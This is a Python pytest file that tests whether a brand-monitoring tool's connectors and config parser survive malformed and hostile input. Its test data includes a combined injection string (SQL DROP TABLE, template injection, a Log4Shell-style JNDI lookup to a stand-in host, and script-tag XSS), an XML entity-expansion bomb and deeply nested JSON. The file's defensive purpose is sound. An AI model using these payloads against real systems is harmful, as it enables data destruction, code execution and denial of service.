"""Point 5: hostile and malformed input gives a clear error or is skipped and counted; nothing crashes.

Every connector's `parse` (the code the scan runs on each response body) gets the same corpus of
bad bodies; every file in tests/fixtures/bad_configs is rejected with an error naming its field.
"""

from __future__ import annotations

import importlib
import json
from pathlib import Path

import pytest
from emberwatch.config import Brand, ConfigError, parse_config
from emberwatch.http import SourceError
from emberwatch.sources import CONNECTOR_MODULES

from tests.reliability.ledger import record

pytestmark = pytest.mark.reliability

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
BRAND = Brand(id="acme", name="Acme Widgets", queries=('"acme widgets" OR acmewidgets',))
INJECTION = "'; DROP TABLE mentions; -- {{7*7}} ${jndi:ldap://x.example/a} <script>alert(1)</script> \u202e"

# the keys the nine APIs keep their items under, so wrong types reach the item code, not only the top
ITEM_KEYS = ("hits", "data", "posts", "items", "statuses", "children", "entries", "includes", "meta")


def _all_keys(value: object) -> bytes:
    return json.dumps({key: value for key in ITEM_KEYS}).encode()


BODIES: dict[str, bytes] = {
    "empty": b"",
    "null": b"null",
    "empty_list": b"[]",
    "empty_object": b"{}",
    "bare_string": b'"acme widgets"',
    "number": b"42",
    "html_page": b"<!DOCTYPE html><html><body><h1>503 Service Unavailable</h1></body></html>",
    "truncated": b'{"data": [{"id": "1", "text": "Acme Widgets',
    "invalid_utf8": b'{"data": [{"id": "1", "text": "Acme Widgets \xff\xfe broke"}]}',
    "bom": b"\xef\xbb\xbf{}",
    "nul_bytes": b"\x00" * 64,
    "deeply_nested": b"[" * 100_000 + b"]" * 100_000,
    "nested_objects": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "huge_string": _all_keys([{"id": "1", "text": "Acme Widgets " + "x" * 4_000_000}]),
    "wrong_types_strings": _all_keys("acme widgets"),
    "wrong_types_numbers": _all_keys(12345),
    "list_of_nulls": _all_keys([None, None]),
    "list_of_lists": _all_keys([[1, 2], ["a"]]),
    "items_missing_fields": _all_keys([{}, {"id": None}, {"text": None, "created_at": None}]),
    "items_wrong_field_types": _all_keys(
        [
            {
                "id": {"x": 1},
                "text": ["a"],
                "created_at": [],
                "created_utc": "soon",
                "author": 5,
                "score": "many",
            }
        ]
    ),
    "injection_strings": _all_keys(
        [{"id": INJECTION, "text": INJECTION, "title": INJECTION, "url": INJECTION}]
    ),
    "nan_infinity": b'{"data": [{"id": "1", "score": NaN, "created_utc": Infinity}]}',
    "huge_number": b'{"data": [{"id": "1", "created_utc": 1' + b"0" * 5000 + b"}]}",
    "xml_entities": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;'
    b'&a;&a;&a;&a;&a;">]><feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&b;</title></entry></feed>',
}

CASES = [(source, name) for source in CONNECTOR_MODULES for name in BODIES]


@pytest.mark.parametrize(("source", "body"), CASES, ids=[f"{s}-{b}" for s, b in CASES])
def test_a_hostile_body_is_a_clear_error_or_skipped_and_counted(source, body):
    connector = importlib.import_module(CONNECTOR_MODULES[source]).CONNECTOR
    outcome = "crashed"
    try:
        parsed = connector.parse(BODIES[body], BRAND, BRAND.queries[0])
    except SourceError as exc:
        outcome = "error" if str(exc) else "silent error"
    else:
        outcome = "parsed"
        for mention in parsed.mentions:  # what is kept is usable: an id and a time, text a string
            assert (
                mention.native_id and mention.created_at.tzinfo is not None and isinstance(mention.text, str)
            )
    finally:
        record("bad input", faults=1, survived=int(outcome in ("error", "parsed")), source=source, body=body)
    assert outcome in ("error", "parsed")


BAD_CONFIGS = sorted((FIXTURES / "bad_configs").glob("*.yaml"))


@pytest.mark.parametrize("path", BAD_CONFIGS, ids=[p.stem for p in BAD_CONFIGS])
def test_an_invalid_configuration_is_rejected_naming_the_field(path):
    text = path.read_text()
    expected = text.splitlines()[0].split("expect:", 1)[1].strip()
    message = "accepted"
    try:
        parse_config(text, origin=path.name)
    except ConfigError as exc:
        message = str(exc)
    finally:
        record("bad input", faults=1, survived=int(expected in message), config=path.name)
    assert expected in message, message


def test_the_corpus_is_large_enough():
    assert len(BODIES) >= 20 and len(BAD_CONFIGS) >= 20
